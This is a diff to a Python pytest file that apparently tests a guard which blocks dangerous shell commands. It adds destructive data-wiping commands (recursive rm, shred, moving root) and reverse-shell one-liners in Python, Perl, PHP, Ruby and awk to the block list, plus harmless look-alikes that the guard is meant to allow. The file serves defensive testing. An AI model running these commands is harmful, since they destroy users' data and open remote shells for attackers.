@@ -164,7 +164,35 @@ PUT_ELSEWHERE = r"""
     echo '\rm -rf x' | sh
     echo 'r\m -rf x' > y; sh y
 """
-ALL = (PUT_ELSEWHERE, BY_VARIABLES, BEHIND, FETCHED, DECODED, WRITTEN, OF_AGENTS, DISKS)
+REMOVED = r"""
+    rm -r --interactive=never x
+    find / -type f | xargs rm
+    find ~ -print0 | xargs -0 rm
+    ls -d ~/* | xargs rm -r
+    find / -xdev -type f -exec unlink {} \;
+    find / -exec shred {} \;
+    mv ~/* x
+    mv /* x
+"""
+REVERSED = r"""
+    python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
+    perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);exec("/bin/sh -i")'
+    php -r '$s=fsockopen("h",1);exec("sh <&3 >&3");'
+    ruby -rsocket -e 'f=TCPSocket.open("h",1).to_i;exec sprintf("sh -i <&%d",f)'
+    awk 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;c|getline}}'
+"""
+ALL = (
+    REMOVED,
+    REVERSED,
+    PUT_ELSEWHERE,
+    BY_VARIABLES,
+    BEHIND,
+    FETCHED,
+    DECODED,
+    WRITTEN,
+    OF_AGENTS,
+    DISKS,
+)
 
 
 @pytest.mark.parametrize("command", [line for text in ALL for line in _lines(text)])
@@ -223,6 +251,13 @@ NEIGHBOURS = r"""
     make -f Makefile.ci
     loginctl list-sessions
     nvme list
+    command -v sudo
+    systemctl status reboot.target
+    find . -name x | xargs rm
+    find ~ -name '*.py' | xargs wc -l
+    unlink x
+    mv src/* dst/
+    python3 -c "import socket; print(socket.gethostname())"
 """
 
 
